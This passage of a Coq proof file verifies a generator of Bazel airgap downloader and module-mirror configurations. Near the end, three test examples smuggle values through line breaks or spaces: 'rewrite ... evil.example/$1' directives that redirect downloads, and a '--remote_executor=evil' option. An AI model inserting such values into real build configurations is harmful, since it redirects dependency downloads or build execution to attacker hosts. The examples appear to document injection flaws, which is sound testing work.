  - intros [->|?]%elem_of_cons Ha; [by apply elem_of_nil in Ha|]. right. by apply (IH x).
  - intros [->|?]%elem_of_cons Ha; [apply elem_of_cons in Ha as [->|?]; [by left|right; apply (IH h); [by left|done]]|right; apply (IH x); [by right|done]].
Qed.

Lemma demo_url_host s scheme host : demo_url s = Ok (scheme, host) → one_line s → one_line host.
Proof.
  unfold demo_url. intros E Hs. destruct (Split s slash) as [|a [|b [|h l]]] eqn:Es; try (injection E as _ <-; by apply one_line_lit).
  injection E as _ <-. rewrite Split_splitl in Es. intros Hin. apply Hs.
  assert (h ∈ of_bytes <$> splitl slash (to_bytes s)) as (x & -> & Hx)%list_elem_of_fmap by (rewrite Es; by right; right; left).
  rewrite to_of_bytes in Hin. by eapply splitl_bytes.
Qed.

Definition demo_row (url host : string) (tainted : bool) : ExternalRef := mkExternalRef url host "archive" "" "" "" "" "r" "any" tainted "f.bzl".
Definition demo_tables (refs : list ExternalRef) : Tables := mkTables (list_to_map ((λ r, ((("a", "1"), row_id r), r)) <$> refs)) ∅ ∅ ∅.
Definition demo_config (refs : list ExternalRef) (raw : string) : option (result string DownloaderConfig) :=
  AirgapDownloaderConfig demo_url id diamond_decode id "" id demo_drive (λ _, None) diamond (demo_tables refs) 0 ("a", "1") raw false.
Definition demo_two : list ExternalRef := [demo_row "https://b.org/x" "b.org" false; demo_row "https://a.io/y" "a.io" false; demo_row "?" "a.io" true].
Definition config_lines (r : option (result string DownloaderConfig)) : list string := match r with Some (Ok d) => directives (dc_Text d) | _ => [] end.

Example config_run : config_lines (demo_config demo_two "https://m.corp") =
  ["rewrite https://a\.io/(.*) https://m.corp/a.io/$1"; "rewrite http://a\.io/(.*) https://m.corp/a.io/$1";
   "rewrite https://b\.org/(.*) https://m.corp/b.org/$1"; "rewrite http://b\.org/(.*) https://m.corp/b.org/$1"; "allow m.corp"].
Proof. vm_compute. reflexivity. Qed.

Lemma config_directives_witness :
  ∃ d, demo_config demo_two "https://m.corp" = Some (Ok d) ∧ ∃ hosts : list (string * nat), key_sorted fst hosts ∧ dc_HostCount d = length hosts ∧ dc_HostCount d = 2.
Proof.
  destruct (demo_config demo_two "https://m.corp") as [[d|e]|] eqn:E; [|by vm_compute in E..].
  exists d. split; [reflexivity|].
  destruct (config_directives demo_url id diamond_decode id "" id demo_drive (λ _, None) diamond (demo_tables demo_two) 0 demo_url_host
    ("a", "1") "https://m.corp" false d E) as (mirror & refs & hosts & _ & _ & Hs & _ & Hc & _).
  exists hosts. split; [exact Hs|]. split; [exact Hc|]. vm_compute in E. injection E as <-. reflexivity.
Defined.

(** A version with a line break, which the path of a request can have: a closure is drawn
    up for it as for any other, and what follows the break is a directive. *)
Example injected_version :
  config_lines (AirgapDownloaderConfig demo_url id diamond_decode id "" id demo_drive (λ _, None) diamond (demo_tables []) 5
    ("a", "9" +:+ nl +:+ "rewrite (.*) evil.example/$1") "" true) =
  ["rewrite (.*) evil.example/$1 (closure-wide)"; "allow mirror.internal"].
Proof. vm_compute. reflexivity. Qed.

(** The address of a reference is what a module's own code says: with a line break in it, it
    is a directive of its author's. *)
Example injected_line :
  config_lines (demo_config [demo_row ("https://x" +:+ nl +:+ "rewrite github\.com/(.*) evil.example/$1") "" true] "") =
  ["allow mirror.internal"; "rewrite github\.com/(.*) evil.example/$1  (rule=r, platform=any, file=f.bzl)"].
Proof. vm_compute. reflexivity. Qed.

(** A blank in the mirror's address, which the check lets through, is a second option. *)
Example injected_option :
  (λ m, directives (mm_Text m)) <$> AirgapModuleMirrors demo_url id diamond ("a", "1") "http://m/ --remote_executor=evil" "" =
  Ok ["common --module_mirrors=https://bcr.bazel.build/=http://m/ --remote_executor=evil/"].
Proof. vm_compute. reflexivity. Qed.

Lemma mirrors_directive_witness :
  match AirgapModuleMirrors demo_url id diamond ("a", "1") "http://m" "" with
  | Ok m => directives (mm_Text m) = ["common --module_mirrors=" +:+ mm_Registry m +:+ "=" +:+ mm_MirrorBase m]
  | Err _ => False
  end.
Proof.
  pose proof (mirrors_directive demo_url id diamond ("a", "1") "http://m" "" ltac:(by apply one_line_lit) ltac:(by apply one_line_lit)) as H.
  destruct (AirgapModuleMirrors demo_url id diamond ("a", "1") "http://m" "") as [m|e] eqn:E; [|by vm_compute in E].
  destruct H as (_ & Hd & _). exact Hd.
Defined.
